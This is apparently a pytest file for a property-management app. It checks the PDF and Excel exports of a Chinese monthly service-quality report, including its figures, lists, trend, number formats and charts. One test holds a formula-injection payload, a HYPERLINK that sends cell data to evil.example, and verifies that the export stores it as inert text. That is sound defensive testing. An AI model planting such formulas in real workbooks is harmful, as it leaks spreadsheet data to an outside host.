"""The report's files: an A4 PDF in Chinese with the figures and lists (read back with
tests/pdfs.py), and a workbook that openpyxl opens with the figures, lists and trend."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from propdesk.core.glyphs import MISSING
from propdesk.reports.charts import percent_bars_svg, trend_svg
from propdesk.reports.exports import report_pdf, report_xlsx
from propdesk.reports.selectors import monthly_report
from tests.pdfs import A4_MEDIABOX, page_count, pdf_text
from tests.reports.conftest import NOW


def test_rv2_pdf_is_a4_in_chinese_with_the_figures_and_lists(november, office):
    pdf = report_pdf(monthly_report(office.community, 2026, 11, now=NOW))
    assert pdf.startswith(b"%PDF")
    assert A4_MEDIABOX in pdf
    assert b"STSong-Light" in pdf
    text = pdf_text(pdf)
    assert "《锦绣花园 2026年11月 服务质量月报》" in text
    for figure in ("83.3%", "70%", "≥ 96%", "≥ 75%", "50%", "3 户"):
        assert figure in text, figure
    assert "满意率" in text and "满意度" in text
    # The lists: the complaint without a visit, the CP-1 breach, the open suggestion.
    assert november.y.number in text
    assert november.x.number in text
    assert "希望增加儿童游乐设施" in text
    assert page_count(pdf) >= 2


def test_pdf_of_an_empty_month_says_no_data(office, clock):
    pdf = report_pdf(monthly_report(office.community, 2026, 10, now=NOW))
    text = pdf_text(pdf)
    assert "无数据" in text
    assert "没有回答" in text


def test_rv3_workbook_holds_the_figures_lists_and_trend(november, office):
    data = report_xlsx(monthly_report(office.community, 2026, 11, now=NOW))
    wb = load_workbook(io.BytesIO(data))
    summary = wb.worksheets[0]
    assert summary["A1"].value == "锦绣花园 2026年11月 服务质量月报"
    rows = {(r[0], r[1]): r for r in summary.iter_rows(min_row=5, values_only=True) if r[0]}
    # The rule column names the rule (no ID on paper or in the workbook), the measure beside it.
    rv2, rv3_name = "满意率≥96%，满意度≥75%", "投诉回访率100%"
    rate = next(r for (rule, title), r in rows.items() if rule == rv2 and title == "满意率")
    assert (rate[2], rate[3], rate[5], rate[7]) == (0.96, 0.833, 6, "未达标")
    rv3 = next(r for (rule, _t), r in rows.items() if rule == rv3_name)
    assert (rv3[2], rv3[3], rv3[5]) == (1, 0.5, 2)
    names = wb.sheetnames
    missing = wb[next(n for n in names if "投诉" in n and "回访" in n)]
    assert november.y.number in [c.value for c in missing["A"]]
    breaches = wb[next(n for n in names if "超时" in n)]
    assert ("10分钟内安排管理员", november.x.number) in {
        (r[0], r[1]) for r in breaches.iter_rows(values_only=True)
    }
    trend = wb[names[-1]]
    assert trend.max_row == 13  # header + 12 months
    assert trend["A13"].value == "2026-11"
    assert (trend["C13"].value, trend["D13"].value) == (0.833, 0.7)
    assert trend["C12"].value is None  # October: no answers, no zero
    assert summary._charts and trend._charts


def test_charts_are_inline_svg_without_script(november, office):
    r = monthly_report(office.community, 2026, 11, now=NOW)
    bars = percent_bars_svg(r.lines)
    assert (
        bars.startswith("<svg")
        and "<script" not in bars
        and "http" not in bars.replace("http://www.w3.org/2000/svg", "")
    )
    assert 'data-key="RV-2-rate"' in bars
    line = trend_svg(r.trend, rate_target=96, degree_target=75)
    assert line.count("<circle") == 2  # one month with answers: a point per series
    assert "83.3%" in line


def test_a_long_list_prints_its_first_rows_and_points_to_the_workbook(
    november, office, monkeypatch
):
    """At a million orders the breach list alone ran to 37 pages: the PDF prints the first
    rows (100; 1 here) and says the workbook has the rest, which still lists them all."""
    from propdesk.reports import exports

    report = monthly_report(office.community, 2026, 11, now=NOW)
    numbers = [b.number for b in report.breaches]
    assert len(numbers) >= 2
    monkeypatch.setattr(exports, "PDF_LIST_ROWS", 1)
    text = pdf_text(report_pdf(report))
    assert f"前 1 行（共 {len(numbers)} 行）" in text
    assert numbers[0] in text
    wb = load_workbook(io.BytesIO(report_xlsx(report)))
    sheet = wb[next(n for n in wb.sheetnames if "超时" in n)]
    listed = [r[1] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(n in listed for n in numbers)


def test_a_suggestion_written_as_a_formula_is_text_in_the_workbook(november, office):
    """CWE-1236: an owner's words starting with = are text in the report's workbook, never a
    live formula (a HYPERLINK can send cell contents away); the age stays a number."""
    import zipfile

    from propdesk.followup.models import SuggestionItem

    payload = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
    assert SuggestionItem.objects.filter(text="希望增加儿童游乐设施").update(text=payload) == 1
    data = report_xlsx(monthly_report(office.community, 2026, 11, now=NOW))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)
    wb = load_workbook(io.BytesIO(data))
    sheet = wb[next(n for n in wb.sheetnames if "意见" in n or "建议" in n)]
    row = next(r for r in sheet.iter_rows(min_row=3) if r[2].value == payload)
    assert (row[2].data_type, row[2].quotePrefix) == ("s", True)
    assert row[3].data_type == "n"


def test_rv2_workbook_figures_are_numbers_with_number_formats(november, office):
    """RV-2, RV-3: percentages, counts and sample sizes are numeric cells with number formats
    (0.0%, 0), never text, on the summary, the breakdowns and the trend, so that a spreadsheet
    sums, sorts and charts them."""
    data = report_xlsx(monthly_report(office.community, 2026, 11, now=NOW))
    wb = load_workbook(io.BytesIO(data))
    summary = wb.worksheets[0]
    header = [c.value for c in summary[4]]
    target, figure, sample = (header.index(h) for h in ("目标", "本月", "样本"))
    lines = [r for r in summary.iter_rows(min_row=5) if r[0].value]
    by_unit = {}
    for r in lines:
        by_unit.setdefault(r[4].value, []).append(r)
    assert "%" in by_unit and "户" in by_unit
    for r in by_unit["%"]:
        for cell in (r[target], r[figure]):
            if cell.value is not None:  # no target or no data: an empty cell, never "—"
                assert (cell.data_type, cell.number_format) == ("n", "0.0%")
                assert 0 <= cell.value <= 1
    (households,) = by_unit["户"]
    assert (households[figure].value, households[figure].number_format) == (3, "0")
    assert all(r[sample].number_format == "0" for r in lines if r[sample].value is not None)
    rate = next(
        r for r in by_unit["%"] if r[0].value.startswith("满意率") and r[1].value == "满意率"
    )
    assert (rate[figure].value, rate[sample].value) == (0.833, 6)

    by_team = wb[next(n for n in wb.sheetnames if "班组" in n)]
    rows = list(by_team.iter_rows(min_row=3))
    assert rows
    for answered, rate_cell, degree in (r[1:4] for r in rows):
        assert (answered.data_type, answered.number_format) == ("n", "0")
        for cell in (rate_cell, degree):
            assert cell.value is None or (cell.data_type, cell.number_format) == ("n", "0.0%")
    assert any(isinstance(r[2].value, float) for r in rows)

    trend = wb.worksheets[-1]
    assert [c.number_format for c in trend[13][1:6]] == ["0", "0.0%", "0.0%", "0.0%", "0.0%"]
    assert (trend["E13"].value, trend["F13"].value) == (0.96, 0.75)
    # the printed report says the same figures in words, every character in the font (its
    # " · " too: the middle dot is GB 2312's, not a placeholder)
    text = pdf_text(report_pdf(monthly_report(office.community, 2026, 11, now=NOW)))
    assert "83.3%" in text and "・" in text
    assert MISSING not in text


def test_pdf_prints_a_community_name_with_markup_characters_as_written(office, clock):
    """The title is ReportLab markup: a name with "&" or "<" (A&B 花园, typed in the back office)
    was read as markup, failing the whole PDF (a 500 on the report page's PDF link)."""
    office.community.name = "A&B<花园>"
    office.community.save(update_fields=["name"])
    pdf = report_pdf(monthly_report(office.community, 2026, 10, now=NOW))
    assert "《A&B<花园> 2026年10月 服务质量月报》" in pdf_text(pdf)


def test_the_pdf_bar_charts_names_stay_inside_its_drawing(november, office):
    """The bar chart writes each line's name at 30° under its bar; the longest
    (共性问题一周内书面通知答复) ran below the drawing into the next heading. Whatever the names,
    nothing of the chart reaches below the drawing's bottom edge."""
    from propdesk.reports.exports import _bars_drawing

    report = monthly_report(office.community, 2026, 11, now=NOW)
    names = [str(ln.title) for ln in report.lines]
    assert any(len(n) >= 12 for n in names)  # a long one is among them
    drawing = _bars_drawing(report.lines, 480)
    _x0, y0, _x1, y1 = drawing.getBounds()
    assert y0 >= 0, y0
    assert y1 <= drawing.height + 1
